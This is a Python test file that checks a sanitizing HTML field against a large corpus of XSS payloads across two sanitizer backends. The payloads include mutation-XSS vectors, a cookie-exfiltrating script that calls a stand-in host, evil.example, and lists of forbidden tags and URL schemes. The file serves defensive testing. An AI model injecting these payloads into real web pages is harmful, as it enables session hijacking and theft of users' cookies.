"""XSS vectors (in the manner of OWASP's XSS filter evasion cheat sheet and the mutation-XSS
papers) through :class:`SanitizedHTML`, with both backends: the output must hold no construct
that runs script, whatever the backend.

The output is checked the way a browser reads it: parsed with :mod:`html.parser` (which
decodes character references in attribute values once, as a browser does), then every tag
must be in the allow-list, no attribute may be an event handler, and no attribute value may
hold a ``javascript:``, ``vbscript:`` or ``data:`` URL once tabs, newlines and other
characters a URL parser ignores are taken out.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from marshmallow import Schema

from flask_apiguard.fields import DEFAULT_ATTRIBUTES, DEFAULT_TAGS, SanitizedHTML

BACKENDS = ("bleach", "nh3")

#: (id, vector). The id names the attack.
VECTORS: list[tuple[str, str]] = [
    # -- script elements
    ("script_tag", "<script>alert(1)</script>"),
    ("script_tag_uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script_src", '<script src="https://evil.example/x.js"></script>'),
    ("script_unclosed", "<script>alert(1)"),
    ("script_with_attribute_breaking", '<script a=">" src="https://evil.example/x.js"></script>'),
    ("script_split_by_nested_tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script_double_open_bracket", "<<script>alert(1);//<</script>"),
    ("script_in_comment_trick", "<!--<script>--><script>alert(1)</script><!--</script>-->"),
    ("script_with_slash_separator", "<script/xss src=https://evil.example/x.js></script>"),
    ("script_extraneous_open_bracket", "<<SCRIPT>alert(1);//<</SCRIPT>"),
    ("script_null_byte_in_tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script_in_cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    # -- event handlers
    ("img_onerror", "<img src=x onerror=alert(1)>"),
    ("img_onerror_no_quotes_no_space", "<img/src=x/onerror=alert(1)>"),
    ("img_onerror_backticks", "<img src=`x` onerror=`alert(1)`>"),
    ("img_onerror_entity_encoded", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("body_onload", "<body onload=alert(1)>"),
    ("b_onmouseover", '<b onmouseover="alert(1)">hover</b>'),
    ("a_onclick", '<a href="https://example.com" onclick="alert(1)">x</a>'),
    ("p_onclick_uppercase", '<p ONCLICK="alert(1)">x</p>'),
    ("attribute_quote_breaking", '<b title="x" onmouseover="alert(1)" y="">x</b>'),
    ("attribute_unquoted_breaking", "<b title=x onmouseover=alert(1)>x</b>"),
    ("attribute_injected_via_quote", "<a title='\"><img src=x onerror=alert(1)>'>x</a>"),
    ("input_onfocus_autofocus", "<input onfocus=alert(1) autofocus>"),
    ("details_ontoggle", "<details open ontoggle=alert(1)>"),
    ("video_source_onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee_onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("unclosed_tag_with_handler", "<b onmouseover=alert(1)>x</b"),
    ("malformed_img_handler", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    # -- javascript: and friends in URLs
    ("href_javascript", '<a href="javascript:alert(1)">x</a>'),
    ("href_javascript_mixed_case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href_javascript_decimal_entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("href_javascript_all_decimal_entities",
     '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ("href_javascript_padded_decimal_entities",
     '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
     '&#0000112&#0000116&#0000058alert(1)">x</a>'),
    ("href_javascript_hex_entities",
     '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'),
    ("href_javascript_entity_tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("href_javascript_entity_newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("href_javascript_entity_cr", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("href_javascript_raw_tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("href_javascript_raw_newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("href_javascript_leading_space_and_control", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("href_javascript_named_entities", '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>'),
    ("href_javascript_unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("href_javascript_backticks", "<a href=`javascript:alert(1)`>x</a>"),
    ("href_javascript_uppercase_tag", '<A HREF="JAVASCRIPT:alert(1)">x</A>'),
    ("href_vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("href_livescript", '<a href="livescript:alert(1)">x</a>'),
    ("href_data_text_html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("href_data_base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
                         "x</a>"),
    ("href_data_mixed_case_entity", '<a href="D&#x61;ta:text/html,<script>alert(1)</script>">'
                                    "x</a>"),
    ("img_src_javascript", '<img src="javascript:alert(1)">'),
    ("img_dynsrc_lowsrc", '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'),
    ("form_action_javascript", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button_formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base_href", '<base href="javascript:alert(1)//">'),
    ("link_stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    # -- frames, objects, embeds
    ("iframe_src_javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe_srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe_srcdoc_entity_encoded", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object_data", '<object data="javascript:alert(1)"></object>'),
    ("object_data_uri", '<object type="text/html" data="data:text/html,<script>alert(1)</script>">'
                        "</object>"),
    ("embed_src", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("applet", '<applet code="x.class"></applet>'),
    # -- SVG and MathML
    ("svg_onload", "<svg onload=alert(1)>"),
    ("svg_slash_onload", "<svg/onload=alert(1)>"),
    ("svg_script", "<svg><script>alert(1)</script></svg>"),
    ("svg_script_xlink", '<svg><script xlink:href="data:,alert(1)"></script></svg>'),
    ("svg_a_xlink_href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg_animate_href", '<svg><a><animate attributeName=href values=javascript:alert(1) />'
                         "<text x=20 y=20>x</text></a></svg>"),
    ("svg_set_onbegin", "<svg><set onbegin=alert(1) attributeName=x></svg>"),
    ("svg_foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("svg_style_breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("math_href", '<math href="javascript:alert(1)">x</math>'),
    ("math_maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
                     "x</maction></math>"),
    ("mxss_math_mtext_table_mglyph_style",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
     "</table></mtext></math>"),
    ("mxss_math_mtext_mglyph_svg",
     "<math><mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext>"
     "</svg></mglyph></mtext></math>"),
    ("mxss_svg_p_style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("mxss_noscript_title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss_noembed", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("mxss_xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("mxss_template", "<template><img src=x onerror=alert(1)></template>"),
    ("mxss_textarea", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'),
    ("mxss_title", '<title><p title="</title><img src=x onerror=alert(1)>">'),
    ("mxss_nested_form", "<form><math><mtext></form><form><mglyph><style></math>"
                         "<img src onerror=alert(1)>"),
    ("mxss_comment_in_attribute", '<a title="<!--"><img src=x onerror=alert(1)>--></a>'),
    # -- CSS
    ("style_expression", '<p style="width: expression(alert(1))">x</p>'),
    ("style_url_javascript", '<p style="background-image: url(javascript:alert(1))">x</p>'),
    ("style_element_import", '<style>@import "https://evil.example/x.css";</style>'),
    ("style_element_expression", "<style>p{width:expression(alert(1))}</style><p>x</p>"),
    ("style_behavior", '<p style="behavior: url(xss.htc)">x</p>'),
    ("style_escaped_expression", '<p style="width: e\\78pression(alert(1))">x</p>'),
    # -- other tags and tricks
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("isindex_action", '<isindex action="javascript:alert(1)" type=submit>'),
    ("table_background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("div_background_image", '<div style="background-image: url(&#1;javascript:alert(1))">x</div>'),
    ("xml_namespace_script", '<html xmlns:xss><?import namespace="xss" implementation="x.htc">'
                             "<xss:xss>x</xss:xss></html>"),
    ("conditional_comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("attribute_with_newline_handler", "<b\nonmouseover\n=\nalert(1)>x</b>"),
    ("encoded_lt_gt_text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("utf7_style_payload", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
]

#: Vectors whose payload sits inside an element removed *with its content*: none of their
#: text may survive, not even escaped.
CONTENT_DROPPED = {
    "script_tag": "alert", "script_tag_uppercase": "alert", "script_unclosed": "alert",
    "svg_script": "alert", "style_element_expression": "expression",
    "style_element_import": "import", "iframe_srcdoc": "alert", "mxss_template": "onerror",
    "mxss_math_mtext_table_mglyph_style": "onerror", "svg_style_breakout": "onerror",
}

FORBIDDEN_SUBSTRINGS = ("<script", "<iframe", "<svg", "<math", "<style", "<object", "<embed",
                        "<frame", "<base", "<meta", "<link", "<form", "<img", "<noscript")
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
#: What a URL parser drops before reading the scheme: C0 controls and space at the ends,
#: tab and newlines anywhere (WHATWG URL standard). Removing them all is stricter.
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f]")


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def elements(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    return parser.elements


def assert_inert(output: str) -> None:
    lowered = output.lower()
    for forbidden in FORBIDDEN_SUBSTRINGS:
        assert forbidden not in lowered, f"{forbidden} in {output!r}"
    for tag, attrs in elements(output):
        assert tag in DEFAULT_TAGS, f"<{tag}> is not in the allow-list: {output!r}"
        allowed = set(DEFAULT_ATTRIBUTES.get(tag, ())) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} in {output!r}"
            assert name in allowed, f"{name} on <{tag}> is not allowed: {output!r}"
            url = _URL_IGNORED.sub("", html.unescape(value or "")).lower()
            for scheme in DANGEROUS_SCHEMES:
                assert not url.startswith(scheme), f"{scheme} URL survived in {output!r}"
                assert scheme not in url or name == "title", f"{scheme} in {output!r}"


def load(backend: str, value: str) -> str:
    schema = Schema.from_dict({"body": SanitizedHTML(backend=backend)})()
    result: str = schema.load({"body": value})["body"]
    return result


def test_the_corpus_is_large_and_ids_are_unique() -> None:
    ids = [name for name, _ in VECTORS]
    assert len(ids) >= 40
    assert len(set(ids)) == len(ids)
    assert set(CONTENT_DROPPED) <= set(ids)
    assert set(ids) >= PARSER_DIFFERENCES


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(("name", "vector"), VECTORS, ids=[name for name, _ in VECTORS])
def test_xss_vector_is_neutralised(backend: str, name: str, vector: str) -> None:
    output = load(backend, vector)
    assert_inert(output)
    if name in CONTENT_DROPPED:
        assert CONTENT_DROPPED[name] not in output, f"content left as text: {output!r}"


#: Vectors the two HTML parsers build different (harmless) trees for. bleach's html5lib
#: predates the HTML standard's change that makes ``</p>`` break out of SVG content; nh3's
#: html5ever follows it, so it keeps an empty ``<p>`` where bleach drops the whole ``<svg>``.
PARSER_DIFFERENCES = {"mxss_svg_p_style"}
SAME_SHAPE = [(name, vector) for name, vector in VECTORS if name not in PARSER_DIFFERENCES]


@pytest.mark.parametrize(("name", "vector"), SAME_SHAPE, ids=[name for name, _ in SAME_SHAPE])
def test_both_backends_strip_the_same_vector(name: str, vector: str) -> None:
    """Both backends reduce each vector to the same elements and attribute names; only
    text and escaping details may differ. (Both are checked for safety on *every* vector by
    ``test_xss_vector_is_neutralised``.)"""

    def shape(output: str) -> list[tuple[str, list[str]]]:
        return [(tag, sorted(n for n, _ in attrs)) for tag, attrs in elements(output)]

    assert shape(load("bleach", vector)) == shape(load("nh3", vector))


@pytest.mark.parametrize("backend", BACKENDS)
def test_benign_markup_survives(backend: str) -> None:
    assert load(backend, "<b>bold</b>") == "<b>bold</b>"
    assert load(backend, '<a href="https://example.com">x</a>') == (
        '<a href="https://example.com" rel="noopener noreferrer">x</a>'
    )
    assert load(backend, '<a href="mailto:a@example.com">mail</a>') == (
        '<a href="mailto:a@example.com" rel="noopener noreferrer">mail</a>'
    )
    assert load(backend, '<a href="/notes/1#top">rel</a>') == (
        '<a href="/notes/1#top" rel="noopener noreferrer">rel</a>'
    )
    text = "Use <code>a &amp;&amp; b</code> when x &lt; y"
    assert load(backend, text) == text


@pytest.mark.parametrize("backend", BACKENDS)
def test_script_inside_allowed_markup_is_removed_without_its_text(backend: str) -> None:
    output = load(backend, "<p>before<script>document.location='https://evil.example/'+"
                           "document.cookie</script>after</p>")
    assert output == "<p>beforeafter</p>"


@pytest.mark.parametrize("backend", BACKENDS)
def test_link_with_javascript_keeps_its_text_but_not_its_href(backend: str) -> None:
    assert load(backend, '<a href="jav&#x09;ascript:alert(1)">click</a>') == (
        '<a rel="noopener noreferrer">click</a>'
    )


#: Pieces that attacks are made of, for the fuzzed test below.
FRAGMENTS = [
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "=", '"', "'", "`", " ", "\t", "\n",
    "\x00", "&", "&#", "&#x", ";", "106", "6A", "a", "b", "p", "img", "svg", "math", "mtext",
    "mglyph", "table", "style", "script", "noscript", "iframe", "template", "title", "href",
    "src", "srcdoc", "xlink:href", "onerror", "onload", "javascript:", "java", "script:",
    "vbscript:", "data:", "text/html,", "alert(1)", "https://example.com",
]


@settings(max_examples=300, deadline=None, database=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_fuzzed_markup_is_neutralised_by_both_backends(markup: str) -> None:
    for backend in BACKENDS:
        assert_inert(load(backend, markup))
